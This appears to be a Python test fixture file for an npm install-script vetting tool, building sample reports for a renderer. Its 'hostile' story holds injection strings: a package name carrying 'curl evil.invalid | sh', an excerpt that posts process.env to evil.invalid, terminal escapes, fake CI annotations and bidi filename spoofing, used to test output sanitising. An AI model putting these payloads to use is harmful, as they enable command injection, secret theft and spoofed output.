"""Whole reports, as the hallway would hand them to a renderer: one ordinary, one hostile, one that went wrong, and so on."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

from safe_install.judgement import Approval, Change, Decision, Denial, FileChange, Novelty, Reason, Verdict
from safe_install.model import (
    Artifact,
    Behaviours,
    Boundary,
    BoundaryKind,
    Confidence,
    Digest,
    Event,
    Finding,
    Gap,
    GapKind,
    Inspection,
    Language,
    LifecycleScript,
    ReachableFile,
    Severity,
    Source,
)
from safe_install.story import Confinement, Execution, Outcome, Plan, Report, Review, Step, TreeChange, TreeKind
from tests.builders import a_package, an_artifact

NPM = ("ci", "--ignore-scripts", "--offline", "--no-audit", "--no-fund")


def a_report(**more: Any) -> Report:  # noqa: ANN401
    """Tell a story with only what a test names."""
    return Report(
        **{
            "project": "my-app",
            "at": datetime(2026, 11, 22, tzinfo=UTC),
            "version": "0.1.0",
            "signatures": Digest("5" * 64),
            "exit_code": 0,
            **more,
        }
    )


def a_script_of(
    artifact: Artifact, command: str, event: Event = Event.POSTINSTALL, *, implied: bool = False
) -> LifecycleScript:
    """Declare one script for an artifact."""
    return LifecycleScript(package=a_package({}, artifact), event=event, command=command, implied=implied)


def a_file(artifact: Artifact, path: str, content: str = "", *via: str) -> ReachableFile:
    """Reach one file of an artifact."""
    return ReachableFile(
        package=artifact.name,
        path=path,
        content=content.encode(errors="replace"),
        language=Language.JAVASCRIPT,
        location=artifact.location,
        via=via,
    )


def an_approval(package: str, inspection: Inspection | None = None, **more: Any) -> Approval:  # noqa: ANN401
    """Say yes as Ana did."""
    return Approval(
        **{
            "package": package,
            "event": inspection.script.event if inspection else Event.POSTINSTALL,
            "fingerprint": inspection.fingerprint if inspection else Digest("0" * 64),
            "seen_in": "1.0.0",
            "by": "ana@example.test",
            "on": date(2026, 1, 14),
            **more,
        }
    )


def allowed(
    name: str, version: str = "1.0.0", *, seen_in: str | None = None, event: Event = Event.POSTINSTALL
) -> Verdict:
    """Allow a script that Ana approved, in this version or in another."""
    inspection = Inspection(script=a_script_of(an_artifact(name, version), "node install.js", event))
    return Verdict(
        inspection=inspection,
        decision=Decision.ALLOW,
        reasons=(Reason.CARRIED_FORWARD if seen_in else Reason.APPROVED,),
        approval=an_approval(name, inspection, seen_in=seen_in or version),
    )


def skipped() -> Verdict:
    """Skip a banner."""
    return Verdict(
        inspection=Inspection(script=a_script_of(an_artifact("banner", "3.2.1"), "echo thanks"), harmless=True),
        decision=Decision.SKIP,
        reasons=(Reason.SKIPPABLE,),
    )


def denied() -> Verdict:
    """Skip what Bob denied."""
    return Verdict(
        inspection=Inspection(script=a_script_of(an_artifact("funding", "2.0.0"), "node beg.js")),
        decision=Decision.SKIP,
        reasons=(Reason.DENIED,),
        denial=Denial(package="funding", by="bob@example.test", on=date(2026, 2, 1), why="only begs"),
    )


def esbuild(version: str = "0.25.1", location: str = "node_modules/esbuild") -> Verdict:
    """Review a script that nobody approved: it downloads, and has an edge that could not be followed."""
    artifact = an_artifact("esbuild", version, location=location, line=812)
    return Verdict(
        inspection=Inspection(
            script=a_script_of(artifact, "node install.js"),
            files=(
                a_file(artifact, "install.js", "one", "node install.js"),
                a_file(artifact, "lib/npm/node-platform.js", "two", "node install.js", "install.js"),
            ),
            gaps=(
                Gap(kind=GapKind.NATIVE, where=artifact.id, path="bin/esbuild", detail=""),
                Gap(
                    kind=GapKind.DYNAMIC, where=artifact.id, path="install.js", line=48, detail="require(pkg + subpath)"
                ),
                Gap(kind=GapKind.DYNAMIC, where=artifact.id, path="install.js", line=97, detail="spawn(npm)"),
            ),
            findings=(
                Finding(
                    signature="fetches-an-executable",
                    severity=Severity.WARNING,
                    confidence=Confidence.MEDIUM,
                    message="Downloads a file and makes it executable.",
                    where=artifact.id,
                    path="lib/npm/node-platform.js",
                    line=112,
                    excerpt="  https.get(url, (res) => {\n    res.pipe(fs.createWriteStream(bin, { mode: 0o755 }));",
                ),
            ),
            behaviours=Behaviours(
                env=("ESBUILD_BINARY_PATH", "npm_config_user_agent"),
                hosts=("registry.example.test",),
                programs=("node", "npm"),
                writes=("bin/esbuild",),
            ),
        ),
        decision=Decision.REVIEW,
        reasons=(Reason.NEVER_APPROVED, Reason.FINDING, Reason.GAP),
    )


def changed() -> Verdict:
    """Review an implied script whose package was approved with other contents."""
    artifact = an_artifact("addon", "5.1.0", location="node_modules/fast/node_modules/addon", line=977)
    bindings = an_artifact("bindings", "1.5.0")
    return Verdict(
        inspection=Inspection(
            script=a_script_of(artifact, "node-gyp rebuild", Event.INSTALL, implied=True),
            files=(a_file(artifact, "gyp/find.js"), a_file(bindings, "bindings.js")),
            boundaries=(
                Boundary(
                    kind=BoundaryKind.COMPILES,
                    where=artifact.id,
                    path="binding.gyp",
                    detail="builds native code with node-gyp",
                ),
                Boundary(
                    kind=BoundaryKind.DOWNLOADS,
                    where=bindings.id,
                    path="bindings.js",
                    line=9,
                    detail="downloads a prebuilt library",
                    host="builds.example.test",
                    verified="a sha-256 in the package",
                ),
            ),
            behaviours=Behaviours(programs=("node-gyp",)),
        ),
        decision=Decision.REVIEW,
        reasons=(Reason.CHANGED,),
        previous=an_approval("addon", seen_in="5.0.3", why="builds from source"),
    )


def all_well() -> Report:
    """Two scripts ran, one needed no run."""
    verdicts = (
        allowed("sharp", "0.33.5", event=Event.INSTALL),
        allowed("core-js", "3.38.0", seen_in="3.37.1"),
        skipped(),
    )
    return a_report(
        reviews=(Review(target="package-lock.json", artifacts=214, verdicts=verdicts),),
        plan=a_plan(*verdicts[:2]),
        execution=Execution(
            npm_exit_code=0,
            outcomes=tuple(Outcome(step=step, exit_code=0, seconds=0.4) for step in a_plan(*verdicts[:2]).steps),
            confined_by="bubblewrap",
        ),
    )


def nothing() -> Report:
    """Judge a tree without any script."""
    return a_report(reviews=(Review(target="package-lock.json", artifacts=3),))


def ordinary() -> Report:
    """Somebody must look, at a new script in two places and at a changed one; the rest was installed and ran."""
    sharp = allowed("sharp", "0.33.5", event=Event.INSTALL)
    twice = (esbuild(), esbuild(location="node_modules/vite/node_modules/esbuild"))
    verdicts = (skipped(), sharp, *twice, changed(), denied(), allowed("core-js", "3.38.0", seen_in="3.37.1"))
    plan = a_plan(sharp)
    return a_report(
        exit_code=10,
        reviews=(Review(target="package-lock.json", artifacts=1413, verdicts=verdicts),),
        plan=plan,
        execution=Execution(
            npm_exit_code=0,
            outcomes=(Outcome(step=plan.steps[0], exit_code=0, seconds=1.23),),
            confined_by="bubblewrap",
        ),
    )


def a_plan(*verdicts: Verdict) -> Plan:
    """Plan these."""
    return Plan(npm=NPM, steps=tuple(a_step(verdict) for verdict in verdicts))


def a_step(verdict: Verdict, **more: Any) -> Step:  # noqa: ANN401
    """Confine one to its own directory."""
    location = verdict.inspection.script.package.artifact.location
    return Step(verdict=verdict, location=location, confinement=Confinement(writable=(location,), **more))


def dry_run() -> Report:
    """Say what would happen."""
    verdicts = (allowed("sharp", "0.33.5", event=Event.INSTALL), allowed("core-js", "3.38.0"), esbuild())
    return replace(
        ordinary(),
        reviews=(Review(target="package-lock.json", artifacts=214, verdicts=verdicts),),
        plan=a_plan(*verdicts[:2]),
        execution=None,
    )


def failed() -> Report:
    """One script failed, one was too slow and optional, one never had its turn."""
    verdicts = tuple(allowed(name, event=Event.INSTALL) for name in ("core-js", "fsevents", "sharp", "zz-last"))
    plan = a_plan(*verdicts)
    output = "".join(f"gyp info line {number}\n" for number in range(30)) + "gyp ERR! \x1b[31mnot found: make\x1b[0m\n"
    return a_report(
        exit_code=12,
        reviews=(Review(target="package-lock.json", artifacts=90, verdicts=verdicts),),
        plan=plan,
        execution=Execution(
            npm_exit_code=0,
            already_run=(plan.steps[0],),
            outcomes=(
                Outcome(step=plan.steps[1], exit_code=None, seconds=600.02, output="waiting\n", tolerated=True),
                Outcome(step=plan.steps[2], exit_code=1, seconds=12, output=output),
            ),
            removed=("node_modules/fsevents",),
            restored=("node_modules", "package-lock.json"),
            confined_by="bubblewrap",
        ),
        notes=("The approvals of two packages end within a week.",),
    )


ESCAPES = "\x1b[2J\x1b]0;owned\x07::add-path::/evil\n##[error]fake [red]markup[/red] \u202egpj.exe\u2066 \u200bzero \ud800 :smile:"


def hostile() -> Report:
    """Every text that a package can write tries to act."""
    artifact = an_artifact("x; curl evil.invalid | sh", "1.0.0\n", location=f"node_modules/{ESCAPES}", line=7)
    worker = an_artifact("left-pad", "9.9.9", line=40)
    finding = Finding(
        signature="env-to-network",
        severity=Severity.ERROR,
        message="Sends the environment to a network address.",
        where=worker.id,
        path=f"lib/{ESCAPES}.js",
        line=1,
        excerpt=f"fetch('https://evil.invalid', {{body: process.env}}) // {ESCAPES}\r\n\r\n\x9b1A\ttrue{' ' * 300}; rm",
    )
    script = a_script_of(worker, f"node lib/x.js {ESCAPES}", Event.PREINSTALL)
    reached = a_file(worker, finding.path, "", script.command, "lib/x.js", ESCAPES)
    behaviours = Behaviours(
        env=tuple(f"TOKEN_{number}{ESCAPES}" for number in range(30)),
        hosts=("evil.invalid", "\u0435vil.invalid"),
        programs=(ESCAPES,),
    )
    gaps = tuple(
        Gap(kind=kind, where=worker.id, path=ESCAPES, line=line, detail=ESCAPES)
        for kind in GapKind
        for line in range(1, 3)
    )
    return a_report(
        project=f"my-app{ESCAPES}",
        exit_code=11,
        reviews=(
            Review(
                target="package-lock.json",
                artifacts=2,
                verdicts=(
                    Verdict(
                        inspection=Inspection(script=a_script_of(artifact, ESCAPES * 200)),
                        decision=Decision.REVIEW,
                        reasons=(Reason.NEVER_APPROVED,),
                    ),
                    Verdict(
                        inspection=Inspection(
                            script=script,
                            files=(reached,),
                            gaps=gaps,
                            findings=tuple(replace(finding, line=line) for line in range(1, 10)) * 2,
                            behaviours=behaviours,
                        ),
                        decision=Decision.BLOCK,
                        reasons=(Reason.FINDING, Reason.CHANGED, Reason.GAP),
                        previous=an_approval("left-pad", by=ESCAPES, why=ESCAPES, seen_in=ESCAPES),
                    ),
                ),
                gaps=(Gap(kind=GapKind.REFUSED, where=f"evil@1.0.0{ESCAPES}", detail=ESCAPES),),
                findings=(
                    Finding(
                        signature="lockfile/foreign-host",
                        severity=Severity.ERROR,
                        message=f"left-pad comes from a host that nobody configured: {ESCAPES}",
                        where="package-lock.json",
                        line=41,
                        excerpt='"resolved": "https://evil.invalid/left-pad-9.9.9.tgz",',
                    ),
                ),
            ),
        ),
        plan=Plan(blocked=True),
        notes=(f"npm said: {ESCAPES}",),
    )


def hostile_change(junk: str) -> Report:
    """Compare a tree with another one, where every name, version, place, remark, command and line of a package is junk."""
    artifact = an_artifact(f"rewritten{junk}", f"2.0.0{junk}", location=f"node_modules/{junk}", line=7)
    inspection = Inspection(
        script=a_script_of(artifact, f"node install.js {junk}"),
        files=(a_file(artifact, f"lib/{junk}.js", f"// {junk}\n", "node install.js", junk),),
        gaps=(Gap(kind=GapKind.DYNAMIC, where=artifact.id, path=junk, line=2, detail=junk),),
        behaviours=Behaviours(env=(junk,), hosts=(junk,), programs=(junk,), writes=(junk,)),
    )
    change = Change(
        before=f"1.0.0{junk}",
        after=f"2.0.0{junk}",
        commands=(f"node old.js {junk}", inspection.script.command),
        files=(
            FileChange(
                package=junk,
                path=f"{junk}.js",
                before=b"old\n",
                after=f"{junk}\n::add-path::/evil\n".encode(errors="replace"),
            ),
        ),
        unread=(junk,),
        gaps=inspection.gaps,
        behaviours=inspection.behaviours,
        gone=inspection.behaviours,
    )
    verdict = Verdict(
        inspection=inspection,
        decision=Decision.REVIEW,
        reasons=(Reason.NEVER_APPROVED, Reason.GAP),
        novelty=Novelty.CHANGED,
        change=change,
        brought_by=(junk, f"{junk} 1.0.0"),
    )
    tree = tuple(
        TreeChange(kind=kind, name=junk, before=junk, after=f"{junk}2", location=junk, line=3, remarks=(junk,))
        for kind in TreeKind
    )
    settings = Finding(
        signature="settings-changed", severity=Severity.WARNING, message=f"{junk} differs", where=junk, path=junk
    )
    return a_report(
        exit_code=10,
        reviews=(
            Review(
                target="package-lock.json",
                artifacts=2,
                verdicts=(verdict,),
                findings=(settings,),
                against=junk,
                tree=tree,
                unchanged=3,
            ),
        ),
        notes=(junk,),
    )


def many_alike() -> Report:
    """Judge a lockfile that a mirror wrote: the same is to be said of each of its packages, which nobody could fetch either."""
    names = [f"package-{number:02}" for number in range(1, 89)]
    found = tuple(
        Finding(
            signature="lockfile/foreign-host",
            severity=Severity.ERROR,
            message="the tarball would come from mirror.example.test",
            where=f"{name}@1.0.0",
            line=number,
            excerpt=f"https://mirror.example.test/{name}/-/{name}-1.0.0.tgz",
        )
        for number, name in enumerate(names, start=10)
    )
    gaps = tuple(Gap(kind=GapKind.NOT_FETCHED, where=f"{name}@1.0.0", detail="no answer") for name in names)
    review = Review(target="package-lock.json", artifacts=88, findings=found, gaps=gaps, blocked=True)
    return a_report(exit_code=11, reviews=(review,), plan=Plan(blocked=True))


def many_targets() -> Report:
    """Scan several things in one run; one is the project's own script."""
    root = Artifact(location="", name="", version="", source=Source.ROOT)
    own = Verdict(
        inspection=Inspection(
            script=a_script_of(root, "husky", Event.PREPARE), behaviours=Behaviours(programs=("husky",))
        ),
        decision=Decision.REVIEW,
        reasons=(Reason.NEVER_APPROVED,),
    )
    return a_report(
        exit_code=10,
        reviews=(
            Review(target="esbuild@0.25.1", artifacts=1, verdicts=(esbuild(),)),
            Review(target="./package-lock.json", artifacts=12, verdicts=(own,)),
            Review(target="sharp.tgz", artifacts=1),
        ),
    )


STORIES = {
    "all-well": all_well,
    "nothing": nothing,
    "ordinary": ordinary,
    "dry-run": dry_run,
    "failed": failed,
    "hostile": hostile,
    "many-alike": many_alike,
    "many-targets": many_targets,
}
